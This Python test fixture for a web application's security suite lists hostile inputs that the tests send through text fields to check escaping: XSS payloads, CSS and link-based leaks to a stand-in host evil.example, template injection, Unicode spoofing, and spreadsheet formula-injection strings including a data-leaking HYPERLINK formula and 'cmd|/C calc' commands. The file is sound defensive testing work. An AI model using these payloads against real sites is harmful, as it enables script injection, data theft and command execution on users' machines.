"""Hold the hostile inputs that the security suite sends through every text field and intake channel.

Each entry has a name (for test ids) and the text. A page that shows one of them must show it as text: no element,
attribute or style it carries may reach the DOM, and no script may run (the browser tests set ``window.__pwned``
traps and listen for dialogs). ``MARKER`` is in every entry, so a test can find where the text landed.
"""

from __future__ import annotations

from dataclasses import dataclass

MARKER = "bdx7q"  # rare enough to find, plain enough to survive every normaliser


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str
    # The literal text a reader must still see after escaping (a field may also trim or normalise the rest).
    visible: str = MARKER


def _h(name: str, text: str) -> Hostile:
    return Hostile(name=name, text=f"{MARKER} {text}")


HOSTILE: tuple[Hostile, ...] = (
    _h("script", "<script>window.__pwned='script'</script>"),
    _h("script-src", '<script src="data:text/javascript,window.__pwned=1"></script>'),
    _h("img-onerror", "<img src=x onerror=\"window.__pwned='img'\">"),
    _h("svg-onload", "<svg onload=\"window.__pwned='svg'\"><circle r=9 /></svg>"),
    _h("attribute-break", '"><b onmouseover="window.__pwned=\'attr\'">x</b>'),
    _h("single-quote-break", "' autofocus onfocus='window.__pwned=1' x='"),
    _h("javascript-url", '<a href="javascript:window.__pwned=1">click</a> javascript:window.__pwned=1'),
    _h("data-url", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    _h("iframe-srcdoc", '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
    _h("style-exfiltration", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>"),
    _h("css-url", '<div style="background:url(https://evil.example/leak)">x</div>'),
    _h("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    _h("base-href", '<base href="https://evil.example/">'),
    _h("template-injection", "{{ request.user.password }} {% debug %} ${7*7} #{7*7}"),
    _h("htmx-attributes", '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>'),
    _h("rtl-override", "invoice\u202egpj.exe and \u2066isolate\u2069"),
    _h("zero-width", "pay\u200bpal\u200c.\u200dcom\ufeff"),
    _h("nul-and-controls", "before\x00after \x1b[31m red \x7f"),
    _h("closing-tags", "</textarea></title></script></style><script>window.__pwned='close'</script>"),
    _h("entity-smuggling", "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;"),
    _h("markdown-link", "[click](javascript:window.__pwned=1) ![x](https://evil.example/pixel.png)"),
)

# Text that a spreadsheet would evaluate; every CSV and XLSX export must neutralise it.
FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)

LONG_HEADER = "A" * 16_000  # an over-long header value (subject, name, Message-ID)


def without_nul(text: str) -> str:
    """Return ``text`` without NUL characters (a PostgreSQL text column refuses them)."""
    return text.replace("\x00", "")
